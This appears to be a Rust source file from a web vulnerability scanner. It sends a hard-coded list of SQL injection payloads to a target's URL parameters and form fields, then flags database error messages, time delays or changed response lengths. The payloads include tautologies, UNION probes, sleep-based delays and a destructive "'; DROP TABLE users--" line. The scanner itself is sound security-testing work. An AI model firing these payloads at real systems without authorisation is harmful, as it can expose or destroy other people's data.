// src/core/scanner/sqli_scanner.rs

use once_cell::sync::Lazy;
use regex::{RegexSet, RegexSetBuilder};
use tokio::time::Instant;
use tracing::{debug, info, warn};
use url::Url;

use crate::core::error::ProbeResult;
use crate::core::models::{Finding, FindingCategory, Severity};
use crate::core::scanner::context::ScanContext;
use crate::core::scanner::forms::{extract_forms, resolve_action};

pub static SQLI_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "1'",
    "1\"",
    "1' OR '1'='1",
    "1\" OR \"1\"=\"1",
    "' OR 1=1--",
    "\" OR 1=1--",
    "'; DROP TABLE users--",
    "1' UNION SELECT NULL--",
    "1' AND 1=1--",
    "1' AND 1=2--",
    "1' OR SLEEP(5)--",
    "1'; WAITFOR DELAY '00:00:05'--",
    "1' OR pg_sleep(5)--",
    "admin'--",
    "admin\"--",
];

const MAX_FORMS: usize = 2;
const MAX_FORM_INPUTS: usize = 3;
const MAX_FORM_PAYLOADS: usize = 5;
const DIVERGENCE_RATIO: f64 = 0.1;

// DBMS error signatures, matched case-insensitively against response bodies.
static SQL_ERRORS: Lazy<RegexSet> = Lazy::new(|| {
    RegexSetBuilder::new([
        // MySQL
        r"sql syntax.*mysql",
        r"warning.*mysql_.*",
        r"valid mysql result",
        r"mysqlclient\.",
        // PostgreSQL
        r"postgresql.*error",
        r"warning.*pg_.*",
        r"valid postgresql result",
        r"npgsql\.",
        // MSSQL
        r"driver.* sql server",
        r"ole db.* sql server",
        r"(\[sql server\]|\[odbc sql server driver\])",
        // Access / Jet
        r"microsoft access.*driver",
        r"microsoft jet database engine",
        // Oracle
        r"oracle error",
        r"oracle.*driver",
        r"warning.*oci_.*",
        r"warning.*ora_.*",
        // SQLite
        r"sqlite.*error",
        r"warning.*sqlite_.*",
        r"pdo_sqlite",
        // PDO
        r"sql error.*pdo\.",
        r"warning.*pdo_.*",
    ])
    .case_insensitive(true)
    .build()
    .unwrap()
});

/// Whether a response body carries a recognizable database error message.
pub fn has_sql_error(body: &str) -> bool {
    SQL_ERRORS.is_match(body)
}

fn is_delay_payload(payload: &str) -> bool {
    let lowered = payload.to_lowercase();
    lowered.contains("sleep") || lowered.contains("waitfor")
}

/// Relative body-length change above 10%. An empty baseline never diverges.
fn diverges(baseline_len: usize, len: usize) -> bool {
    if baseline_len == 0 || baseline_len == len {
        return false;
    }
    (len as f64 - baseline_len as f64).abs() / baseline_len as f64 > DIVERGENCE_RATIO
}

/// Distinct query parameter names, in order of first appearance.
fn parameter_names(url: &Url) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for (name, _) in url.query_pairs() {
        if !names.iter().any(|n| *n == name) {
            names.push(name.into_owned());
        }
    }
    names
}

/// Rebuilds the query with `payload` as the single value of `name`. Every other
/// parameter keeps all of its values.
fn with_payload(target: &Url, name: &str, payload: &str) -> Url {
    let pairs: Vec<(String, String)> = target.query_pairs().into_owned().collect();
    let mut url = target.clone();
    {
        let mut query = url.query_pairs_mut();
        query.clear();
        let mut replaced = false;
        for (key, value) in &pairs {
            if key == name {
                if !replaced {
                    query.append_pair(key, payload);
                    replaced = true;
                }
            } else {
                query.append_pair(key, value);
            }
        }
    }
    url
}

async fn fetch(ctx: &ScanContext, url: Url) -> ProbeResult<String> {
    Ok(ctx.client.get(url).send().await?.text().await?)
}

/// Runs SQL injection tests against the target's query parameters, or against
/// the forms on the page when the URL has none.
pub async fn run_sqli_scan(ctx: &ScanContext) -> Vec<Finding> {
    info!(target = %ctx.target, "Starting SQL injection scan.");

    let params = parameter_names(&ctx.target);
    let result = if params.is_empty() {
        test_forms(ctx).await
    } else {
        let mut findings = Vec::new();
        for name in &params {
            findings.extend(test_parameter(ctx, name).await);
        }
        Ok(findings)
    };

    let findings = result.unwrap_or_else(|e| {
        warn!(error = %e, "SQL injection scan aborted.");
        vec![
            Finding::new(FindingCategory::SqlInjection, Severity::Info, "SQL Injection Test Failed")
                .description(format!("Error during SQL injection testing: {}", e))
                .impact("Unable to test for SQL injection vulnerabilities")
                .recommendation("Manually test for SQL injection vulnerabilities"),
        ]
    });
    info!(findings = %findings.len(), "SQL injection scan finished.");
    findings
}

async fn test_parameter(ctx: &ScanContext, name: &str) -> Vec<Finding> {
    let mut findings = Vec::new();

    let baseline = match fetch(ctx, ctx.target.clone()).await {
        Ok(body) => body,
        Err(e) => {
            warn!(param = name, error = %e, "Baseline request failed.");
            findings.push(
                Finding::new(
                    FindingCategory::SqlInjection,
                    Severity::Info,
                    format!("Parameter Test Failed: {}", name),
                )
                .description(format!("Error testing parameter {}: {}", name, e))
                .impact("Unable to test parameter for SQL injection")
                .recommendation("Manually test this parameter for SQL injection"),
            );
            return findings;
        }
    };

    for payload in SQLI_PAYLOADS {
        let url = with_payload(&ctx.target, name, payload);
        let started = Instant::now();
        let body = match fetch(ctx, url).await {
            Ok(body) => body,
            Err(e) => {
                debug!(param = name, payload, error = %e, "Payload request failed, skipping.");
                continue;
            }
        };
        let elapsed = started.elapsed();

        if has_sql_error(&body) {
            info!(param = name, payload, "SQL error signature in response.");
            findings.push(
                Finding::new(
                    FindingCategory::SqlInjection,
                    Severity::Critical,
                    format!("SQL Injection in Parameter: {}", name),
                )
                .description(format!(
                    "SQL error detected when testing parameter \"{}\" with payload: {}",
                    name, payload
                ))
                .impact("Database information could be extracted or modified")
                .recommendation("Use parameterized queries and input validation"),
            );
            break;
        }

        if is_delay_payload(payload) && elapsed > ctx.config.time_based_threshold() {
            info!(param = name, payload, elapsed_ms = elapsed.as_millis() as u64, "Delay payload slowed the response.");
            findings.push(
                Finding::new(
                    FindingCategory::SqlInjection,
                    Severity::Critical,
                    format!("Time-based SQL Injection in Parameter: {}", name),
                )
                .description(format!(
                    "Time delay detected when testing parameter \"{}\" with payload: {}",
                    name, payload
                ))
                .impact("Database information could be extracted through time-based attacks")
                .recommendation("Use parameterized queries and input validation"),
            );
            break;
        }

        if diverges(baseline.len(), body.len()) {
            debug!(param = name, payload, baseline = baseline.len(), len = body.len(), "Response length diverged.");
            findings.push(
                Finding::new(
                    FindingCategory::SqlInjection,
                    Severity::High,
                    format!("Potential SQL Injection in Parameter: {}", name),
                )
                .description(format!("Response content significantly changed with payload: {}", payload))
                .impact("Possible SQL injection vulnerability")
                .recommendation("Investigate parameter for SQL injection and use parameterized queries"),
            );
        }
    }

    findings
}

async fn test_forms(ctx: &ScanContext) -> ProbeResult<Vec<Finding>> {
    let mut findings = Vec::new();

    let page = match ctx.client.get(ctx.target.as_str()).send().await {
        Ok(response) => Some(response.text().await?),
        Err(e) => {
            debug!(error = %e, "Could not fetch page for form discovery.");
            None
        }
    };

    let forms: Vec<_> = page
        .as_deref()
        .map(extract_forms)
        .unwrap_or_default()
        .into_iter()
        .filter(|form| form.action.is_some() && !form.inputs.is_empty())
        .collect();

    if forms.is_empty() {
        findings.push(
            Finding::new(FindingCategory::SqlInjection, Severity::Info, "No Parameters to Test")
                .description("No URL parameters or forms found for SQL injection testing")
                .impact("Cannot determine SQL injection vulnerability status")
                .recommendation("Test individual pages with parameters or forms"),
        );
        return Ok(findings);
    }

    for form in forms.iter().take(MAX_FORMS) {
        let action = form.action.as_deref().unwrap_or_default();
        let Some(form_url) = resolve_action(&ctx.target, action) else {
            debug!(action, "Unresolvable form action, skipping.");
            continue;
        };
        debug!(url = %form_url, inputs = form.inputs.len(), "Testing form.");

        for input in form.inputs.iter().take(MAX_FORM_INPUTS) {
            for payload in SQLI_PAYLOADS.iter().take(MAX_FORM_PAYLOADS) {
                let response = ctx
                    .client
                    .post(form_url.clone())
                    .form(&[(input.name.as_str(), *payload)])
                    .send()
                    .await;
                let body = match response {
                    Ok(r) => match r.text().await {
                        Ok(body) => body,
                        Err(_) => continue,
                    },
                    Err(e) => {
                        debug!(field = %input.name, error = %e, "Form submission failed, skipping.");
                        continue;
                    }
                };

                if has_sql_error(&body) {
                    info!(field = %input.name, url = %form_url, "SQL error signature in form response.");
                    findings.push(
                        Finding::new(
                            FindingCategory::SqlInjection,
                            Severity::Critical,
                            format!("SQL Injection in Form Field: {}", input.name),
                        )
                        .description(format!("SQL error detected in form field \"{}\"", input.name))
                        .impact("Form submission vulnerable to SQL injection")
                        .recommendation("Use parameterized queries for form processing")
                        .details(format!("Form URL: {} | Payload: {}", form_url, payload)),
                    );
                    break;
                }
            }
        }
    }

    Ok(findings)
}
